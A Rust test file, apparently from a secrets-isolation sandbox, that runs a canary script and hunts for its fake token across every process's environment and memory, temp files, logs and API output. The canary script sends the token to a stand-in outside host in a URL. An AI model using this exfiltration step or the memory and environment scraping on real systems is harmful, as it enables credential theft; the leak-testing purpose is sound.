//! A search for a key in everything that a run leaves or holds: arguments and environments, memory, files, what is said.

use std::{
    fs,
    io::{BufRead as _, BufReader, Read as _},
    os::unix::fs::FileExt as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, SystemTime},
};

use testkit::world::{Caller, skip};

use crate::{
    scene::{API, OTHER, Scene, TOKEN},
    search::Needles,
};

/// Files that hold more are nothing that a run of the product writes.
const LARGEST: u64 = 64 << 20;
/// How deep the folders for temporary files are looked through.
const DEPTH: usize = 1;

/// Uses the key, keeps what came back, and stays.
const PROGRAM: &str = r#"
import os, sys, urllib.request
token = os.environ["TOKEN"]
def ask(url):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": "Bearer " + token}), timeout=20)
    except urllib.error.HTTPError as error:
        return error
kept = []
for url in ("https://api.github.com/echo", "https://other.example/?q=" + token, "https://api.github.com/" + token):
    answer = ask(url)
    kept.append(str(answer.headers) + answer.read().decode())
for place in ("/tmp/kept", os.path.expanduser("~/kept"), "/data/kept", "/dev/shm/kept"):
    try:
        open(place, "w").write("".join(kept) + token)
    except OSError as error:
        print(place, error, file=sys.stderr)
print("".join(kept), file=sys.stderr)
print(kept[0].replace("\n", " "))
print("ready", flush=True)
sys.stdin.readline()
"#;

/// What was looked for, and every place where it was.
pub(crate) struct Search {
    needles: Needles,
    pub(crate) found: Vec<String>,
    looked: usize,
}

impl Search {
    /// One that has found nothing yet.
    pub(crate) fn of(value: &str) -> Self {
        Self { needles: Needles::of(value), found: Vec::new(), looked: 0 }
    }

    pub(crate) fn bytes(&mut self, place: &str, bytes: &[u8]) {
        self.looked += 1;
        if let Some(how) = self.needles.find(bytes) {
            self.found.push(format!("{place} {how}"));
        }
    }

    /// Arguments and environment of every process of this machine.
    fn processes(&mut self) {
        for pid in processes() {
            for name in ["cmdline", "environ"] {
                // One that has ended or is not ours to look at.
                if let Ok(bytes) = fs::read(format!("/proc/{pid}/{name}")) {
                    self.bytes(&format!("process {pid} ({}) {name}", line(pid)), &bytes);
                }
            }
        }
    }

    /// What a core of a process of this world would hold, but for the broker's and the supervisor's. How many there were.
    fn memories(&mut self, world: &Path) -> usize {
        let own = processes().into_iter().filter(|pid| belongs(*pid, world));
        let others: Vec<i32> = own.filter(|pid| !knows(&line(*pid))).collect();
        for pid in &others {
            self.memory(*pid);
        }
        others.len()
    }

    /// What a core of this process would hold.
    pub(crate) fn memory(&mut self, pid: i32) {
        let what = format!("process {pid} ({})", line(pid));
        let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
        let Ok(memory) = fs::File::open(format!("/proc/{pid}/mem")) else {
            return skip("the memory of a process", &format!("`{}` is not to be read", line(pid)));
        };
        for map in maps.lines() {
            let mut fields = map.split_ascii_whitespace();
            let (range, mode) = (fields.next().unwrap_or_default(), fields.next().unwrap_or_default());
            let from_file = fields.nth(2).is_some_and(|inode| inode != "0");
            // A core leaves out what is on disk as it is.
            if !mode.starts_with('r') || (from_file && !mode.contains('w')) || map.contains("[v") {
                continue;
            }
            let Some((from, to)) = range.split_once('-') else { continue };
            let address = |text| u64::from_str_radix(text, 16).unwrap();
            self.range(&what, &memory, address(from)..address(to));
        }
    }

    fn range(&mut self, what: &str, memory: &fs::File, range: std::ops::Range<u64>) {
        const PIECE: u64 = 1 << 20;
        // A value over the border of two pieces is in the second.
        const OVERLAP: u64 = 256;
        let mut at = range.start;
        while at < range.end {
            let begin = at.saturating_sub(OVERLAP).max(range.start);
            let mut bytes = vec![0; usize::try_from((range.end - begin).min(PIECE)).unwrap()];
            let count = memory.read_at(&mut bytes, begin).unwrap_or(0);
            self.bytes(&format!("memory of {what} at {begin:x}"), &bytes[..count]);
            at = begin + PIECE;
        }
    }

    /// Every file below a folder.
    fn files(&mut self, folder: &Path, depth: usize, since: Option<SystemTime>) {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let Ok(facts) = entry.metadata() else { continue };
            let path = entry.path();
            if facts.is_dir() && depth > 0 {
                self.files(&path, depth - 1, since);
            }
            let is_new = since.is_none_or(|since| facts.modified().is_ok_and(|at| at >= since));
            if facts.is_file() && is_new && facts.len() <= LARGEST {
                // It may be gone again.
                let bytes = fs::read(&path).unwrap_or_default();
                self.bytes(&path.display().to_string(), &bytes);
            }
        }
    }

    /// Everything that somebody on the host is told.
    fn words(&mut self, scene: &Scene) {
        for words in [
            &["ps"][..],
            &["ps", "--json"],
            &["logs", "canary"],
            &["logs", "canary", "--json"],
            &["egress", "log", "canary"],
            &["egress", "log", "canary", "--json"],
            &["secret", "list"],
            &["secret", "list", "--json"],
            &["secret", "show-binding", TOKEN, "--json"],
            &["doctor"],
            &["doctor", "--json"],
        ] {
            let output = scene.world.product(None).args(words).output().unwrap();
            self.bytes(&format!("`{}`", words.join(" ")), &[output.stdout, output.stderr].concat());
        }
        let cells = scene.world.path("state/fumehood/cells");
        for cell in fs::read_dir(cells).into_iter().flatten().flatten() {
            for path in
                ["/v1/cell", "/v1/cell/events", "/v1/cell/network", "/v1/cell/network/log", "/v1/processes"]
            {
                let mut command = Command::new("curl");
                command.args(["-sS", "--max-time", "5", "--unix-socket"]).arg(cell.path().join("api.sock"));
                let output = command.arg(format!("http://cell{path}")).output().unwrap();
                assert!(
                    [b"{", b"["].iter().any(|begin| output.stdout.starts_with(*begin)),
                    "{path}: {output:?}"
                );
                self.bytes(&format!("GET {path}"), &output.stdout);
            }
        }
    }
}

/// Every process of this machine.
pub(crate) fn processes() -> Vec<i32> {
    let names = fs::read_dir("/proc").unwrap().flatten();
    names.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

fn line(pid: i32) -> String {
    let bytes = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    String::from_utf8_lossy(&bytes).replace('\0', " ").trim_end().to_owned()
}

fn belongs(pid: i32, world: &Path) -> bool {
    let world = world.to_string_lossy();
    let names = ["cmdline", "environ", "mountinfo"];
    pid != std::process::id().cast_signed()
        && names.iter().any(|name| {
            let bytes = fs::read(format!("/proc/{pid}/{name}")).unwrap_or_default();
            String::from_utf8_lossy(&bytes).contains(&*world)
        })
}

/// Whether it is the broker or the supervisor.
fn knows(line: &str) -> bool {
    line.starts_with("fumehood vault ") || line.starts_with("fumehood cell ")
}

/// Folders inside the cell, by the processes that live in it; the one outside that started it has the host's.
fn inside(world: &Path) -> Vec<PathBuf> {
    let own = processes().into_iter().filter(|pid| {
        belongs(*pid, world) && line(*pid).contains("canary.py") && !line(*pid).contains(" exec ")
    });
    own.flat_map(|pid| {
        ["tmp", "home", "run", "data", "dev/shm", "var/tmp"]
            .map(|name| PathBuf::from(format!("/proc/{pid}/root/{name}")))
    })
    .collect()
}

/// Runs the program, and searches while it runs and after.
fn search(caller: Caller, off: Option<&str>, given: &[&str]) -> Vec<String> {
    let canary = format!("ghp_{:036x}", u128::from(std::process::id()) << 64 | 0x00c0_ffee_cafe_f00d);
    let started = SystemTime::now() - Duration::from_secs(1);
    let scene = Scene::new(caller);
    scene.set(TOKEN, &canary, &["--host", API]);
    let program = scene.world.make_file("program.py", PROGRAM, 0o644).unwrap();
    let script = scene.world.make_folder("script").unwrap();
    fs::rename(program, script.join("canary.py")).unwrap();
    let mut command = scene.world.product(off);
    command.args([
        "exec",
        "--name",
        "canary",
        "--verbose",
        "--data",
        "canary",
        "--host",
        &format!("* {OTHER}"),
    ]);
    command.args(["--limit", "require=none", "--mount"]).arg(&script).args(given);
    command.args(["--", "python3"]).arg(script.join("canary.py"));
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut said = String::new();
    while !said.ends_with("ready\n") {
        let more = stdout.read_line(&mut said).unwrap();
        if more == 0 {
            let mut told = String::new();
            child.stderr.take().unwrap().read_to_string(&mut told).unwrap();
            panic!("{caller:?} {off:?} {given:?}: it ended: {said} {told}");
        }
    }
    // The host was sent the key: it was in use.
    assert!(scene.api.asked().iter().any(|asked| asked.head.contains(&canary)), "{said}");

    let mut search = Search::of(&canary);
    search.processes();
    let searched = search.memories(scene.world.folder());
    // `fumehood exec`, the first process of the cell and the program.
    assert!(searched >= 3, "{searched} processes");
    let folders = inside(scene.world.folder());
    assert!(!folders.is_empty());
    for folder in &folders {
        search.files(folder, usize::MAX, None);
    }
    search.files(scene.world.folder(), usize::MAX, None);
    search.words(&scene);

    drop(child.stdin.take());
    stdout.read_to_string(&mut said).unwrap();
    let mut told = String::new();
    child.stderr.take().unwrap().read_to_string(&mut told).unwrap();
    child.wait().unwrap();
    search.bytes("stdout", said.as_bytes());
    search.bytes("stderr", told.as_bytes());
    search.files(scene.world.folder(), usize::MAX, None);
    for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run/fumehood"] {
        search.files(Path::new(folder), DEPTH, Some(started));
    }
    search.words(&scene);
    assert!(search.looked > 100, "{} things were looked at", search.looked);
    search.found
}

#[test]
fn a_key_is_nowhere_but_in_the_vault_its_broker_and_the_supervisor() {
    for caller in Caller::all() {
        let secret = ["--secret", TOKEN];
        let found = search(caller, None, &secret);
        assert!(found.is_empty(), "{caller:?}: {found:#?}");

        // The controls: a supervisor that writes keys into its log, and a key that a cell was given.
        let found = search(caller, Some("canary"), &secret);
        for place in ["/logs/", "`logs canary`", "`logs canary --json`"] {
            assert!(found.iter().any(|found| found.contains(place)), "{caller:?}: {place}: {found:#?}");
        }
        let exposed = ["--host", &format!("* {API}"), "--expose", TOKEN, "--expose-yes-really", TOKEN];
        let found = search(caller, None, &exposed);
        for place in ["environ", "memory of", "/root/tmp/kept", "/root/data/kept", "stdout as it is"] {
            assert!(found.iter().any(|found| found.contains(place)), "{caller:?}: {place}: {found:#?}");
        }
    }
}
